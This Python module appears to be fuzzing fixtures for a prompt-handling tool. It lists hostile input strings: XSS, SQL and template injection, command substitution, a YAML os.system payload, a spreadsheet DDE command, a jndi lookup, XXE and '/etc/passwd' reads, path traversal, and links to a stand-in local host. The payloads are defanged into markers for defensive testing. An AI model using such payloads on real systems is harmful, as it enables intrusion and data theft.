"""What hostile people write where a word is expected: pieces of text, each an attack on somebody who reads it.

Data only. Where a piece would run in a browser, it sets ``window.__pwned``, for which the proof looks.
"""

from __future__ import annotations

MARK = "__pwned"
# A name that is in no other text, for files that must not come to be.
DROPPED_FILE = "dropped-by-a-prompt"

MARKUP = (
    f"<script>window.{MARK}=1</script>",
    f"</script><script>window.{MARK}=2</script>",
    f'<img src="x" onerror="window.{MARK}=3">',
    f"<svg/onload=window.{MARK}=4>",
    f"]]><script>window.{MARK}=5</script>",
    f'" onmouseover="window.{MARK}=6" autofocus onfocus="window.{MARK}=6" x="',
    f"');window.{MARK}=7;('",
    f"</title></style></textarea><script>window.{MARK}=8</script>",
    f'<iframe srcdoc="<script>parent.{MARK}=9</script>"></iframe>',
    f"<a href=javascript:window.{MARK}=10>x</a>",
    f"javascript:window.{MARK}=11",
    f"\u2028window.{MARK}=12//",
    f"<!--><img src=x onerror=window.{MARK}=13>-->",
    f"<math><mtext><table><mglyph><style><img src=x onerror=window.{MARK}=14>",
    f'<meta http-equiv="refresh" content="0;url=javascript:window.{MARK}=15">',
    '<link rel="stylesheet" href="http://127.0.0.1:9/steal.css">',
    '<form action="http://127.0.0.1:9/"><button>press</button></form>',
    "<b>bold</b>", "&lt;b&gt;", "<br>", "&amp;", "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>",
)  # fmt: skip
MARKDOWN = (
    f"[press me](javascript:window.{MARK}=20)",
    "![picture](http://127.0.0.1:9/seen.png)",
    "[a]: http://127.0.0.1:9/ 'x'",
    "<http://127.0.0.1:9/auto>",
    "| a | b |\n| --- | --- |\n| c | d |",
    "```\ncode\n```",
    "\n# heading\n", "***strong***", "`tick", "\n---\n", "\\|", "https://127.0.0.1:9/bare",
    "\n---\npretty_name: other\n---\n",
)  # fmt: skip
TEMPLATES = (
    "{{7*7}}", "{% include '/etc/passwd' %}", f"${{window.{MARK}=30}}", "#{7*7}", "<%= 7*7 %>", "%s%n%d",
    "{0.__class__}",
    f"{{{{constructor.constructor('window.{MARK}=31')()}}}}", "$(id)", "`id`", "%{customdata}", "<extra></extra>",
    "__wildcard__", "{a|b|c}", "${jndi:ldap://127.0.0.1:9/a}",
    f"!!python/object/apply:os.system ['touch {DROPPED_FILE}']",
)  # fmt: skip
CELLS = (
    "=HYPERLINK(\"http://127.0.0.1:9/\"&A1)", "+1+1", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1", "'=1+1",
    "=cmd|'/C calc'!A0",
    '"=1+1"', "a\r\n=1+1", "=1+1,\"\n", ";=1", "\n=1",
)  # fmt: skip
QUERIES = (
    "'; DROP VIEW prompts; --", "\" OR 1=1 --", "'||(SELECT content FROM read_text('/etc/passwd'))||'", "$1", "?",
    ":name",
    f"'; COPY (SELECT 1) TO '{DROPPED_FILE}'; --", "\\'; SELECT 1; --", "prompts", "main.prompts", "''", "\"\"",
    "/*", "--",
    "ATTACH 'x' AS y",
)  # fmt: skip
PATHS = (
    f"../../../../../../tmp/{DROPPED_FILE}", f"..\\..\\{DROPPED_FILE}", "/etc/passwd", "CON", "NUL.txt", "a/b", ".",
    "..",
    "~root", "file:///etc/passwd", f"{DROPPED_FILE}\x00.html", "C:\\x", "-rf", "a" * 300 + ".safetensors",
)  # fmt: skip
CONTROLS = (
    "\x00", "\x01\x02\x03", "\x1b[2J\x1b[31mred", "\x1b]0;title\x07", "\x1b]52;c;aGk=\x07", "\b\b\b", "\r", "\n",
    "\r\n", "\x7f",
    "\x85", "\x9b31m", "\v\f", "\u2028", "\u2029", "\ufeff", "\ufffe", "\uffff", "\x1c\x1d\x1e\x1f",
)  # fmt: skip
UNICODE = (
    "\ud800", "\udfff", "\udc00\ud800", "\ud83d\ude00", "\ud83d", "x\udbffy", "\U0010ffff",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "\u202etxt.exe\u202c", "\u2066\u2067\u2068", "\u0627\u0644\u0633\u0644\u0627\u0645", "\u05e9\u05dc\u05d5\u05dd",
    "z\u0351\u036b\u0343\u036a\u0302a\u0328\u034f\u0301l\u0327\u0308g\u0316\u031do", "\u0301" * 40,
    "\u0301\u0327" * 40, "\ufdfa",
    "\u0130", "\u1e9e", "\uff1cscript\uff1e", "\uff1d1+1", "\u037e", "\u200b\u200c\u200d", "\U000e0041\U000e0042",
    "\uac00\u1100\u1161", "\u2126\u212b", "\u01c4", "\u3000", "\u00a0", "\u0f73\uff9e", "\U0001d54f", "\u0378",
)  # fmt: skip
NUMBERS = (
    "NaN", "Infinity", "-Infinity", "1e999", "-1e999", "0x10", "1_000", "\u0661\u0662", "\u00b2", "1.5e3", "9" * 50,
    "-0", "+7",
    "1,5", "true", "null", "undefined", "", " ", "1.7976931348623157e309", "0" * 60 + "1", "1e-400", "\u2460",
)  # fmt: skip
AIRS = (
    "urn:air:sdxl:lora:civitai:1@2", "urn:air:sdxl:lora:civitai:99999999999999999999@1", "urn:air:::civitai:@",
    "urn:air:",
    "urn:air:sdxl:lora:civitai:1@2.safetensors@3", "URN:AIR:SD1:LORA:CIVITAI:0@0", "civitai:5@-6",
    "urn:air:x:y:huggingface:a/b",
    "urn:air:sdxl:<script>:civitai:1@2", "civitai:1@2", "urn:air:flux1:checkpoint:civitai:618692@691639#x",
    "\u0631urn:air:sdxl:lora:civitai:\u0661@\u0662",
)  # fmt: skip
TAGS = (
    "<lora:a:1>", "<lora:a", "<lora::>", "<lora:<lora:b:1>:1>", "<lora:a:1:2:3:4:5:6>", "<LORA:A:NaN>",
    "<hypernet:x:1e999>",
    "<lora:../../x:1>", "<lyco:y:te=0.5:unet=x>", "<a:>", "<:>", "((((a:1.2)", "a:1.2))))", "[a|b]", "{a:1.1}",
    "\\(", "\\",
    "(a:1.2:1.3)", "BREAK", "AND", "embedding:", "embedding:a:b", "(embedding:x:1.2)", "<lora:" + "n" * 400 + ":1>",
    "a:b:c::1",
    "<lora:a\x00b:1>", "<lora:\ud800:1>", "<lora:urn:air:sdxl:lora:civitai:5@6:0.5>",
)  # fmt: skip

FRAGMENTS = (
    *MARKUP, *MARKDOWN, *TEMPLATES, *CELLS, *QUERIES, *PATHS, *CONTROLS, *UNICODE, *NUMBERS, *AIRS, *TAGS,
)  # fmt: skip

# What a reader that looks ahead too far, or goes back too often, takes longer over than its length. Taken in turn, or
# one after the other, many times.
BAIT = (
    "<", ">", "(", ")", "[", "]", "{", "}", ":", ",", ".", " ", "\\", "/", "'", '"', "-", "_", "=", "@", "&", ";",
    "#", "|", "a",
    "1", "9", "\n", "\t", "\x00", "<a:", "<lora:", "</", ":1", ":1)", "(:1", "\\(", "\\\\", "embedding:", "urn:air:",
    "urn:air:sdxl:lora:civitai:1@2", "civitai:1", "1.", "1/", "f/", "a'", "0x", "e9", "&lt;", "<title>", "</title>",
    "{\"a\":", "[[",
    "\"prompt\":{", "\\ud800", "NaN", "undefined", "\u0301", "\u0327", "\u0301\u0327", "\u0345", "\uff9e", "\ufdfa",
    "\u0130",
    "\u1e9b\u0323", "\ud800", "\U0001f468\u200d", "\u202e", "\u6f22", "\uac00", "\u0e01", "==", "no ",
    "soft light, ", "golden hour",
)  # fmt: skip
